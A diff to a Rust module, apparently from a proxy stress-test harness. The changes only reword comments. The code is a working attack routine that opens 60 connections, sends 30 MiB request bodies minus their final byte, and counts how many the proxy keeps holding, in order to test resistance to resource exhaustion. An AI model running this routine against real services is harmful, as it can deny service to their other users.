@@ -1,4 +1,4 @@
-//! Large bodies of which all but the last byte is sent.
+//! Large bodies without their last byte.
 
 use std::net::SocketAddr;
 use std::time::Duration;
@@ -10,23 +10,23 @@ use tokio::time::timeout;
 
 use super::chat_head;
 
-/// How many.
+/// Number of bodies.
 const BODIES: usize = 60;
 
-/// Bytes of each.
+/// Size of each body in bytes.
 const LENGTH: usize = 30 * 1024 * 1024;
 
-/// Bytes that are written at a time.
+/// Bytes per write.
 const PIECE: usize = 64 * 1024;
 
 pub(super) async fn attack(target: SocketAddr, length: Duration) -> Result<String, String> {
     let bodies = join_all((0..BODIES).map(|_| timeout(length, body(target)))).await;
-    // Those that were neither refused nor closed are still held.
+    // Bodies that were neither refused nor closed are still held.
     let held = bodies.into_iter().filter(Result::is_err).count();
     Ok(format!("{held} of {BODIES} held at the end, the others refused"))
 }
 
-/// Sends all but the last byte, and waits until the proxy answers or closes the connection.
+/// Sends all but the last byte, and waits until the proxy responds or closes the connection.
 async fn body(target: SocketAddr) {
     let Ok(mut socket) = TcpStream::connect(target).await else { return };
     if socket.write_all(chat_head(LENGTH).as_bytes()).await.is_err() {
@@ -41,6 +41,6 @@ async fn body(target: SocketAddr) {
         }
         left -= next;
     }
-    // An answer, an end or a reset: each means that the body is not held.
+    // A response, end of file or reset means that the body is not held.
     let _ = socket.read(&mut [0]).await;
 }
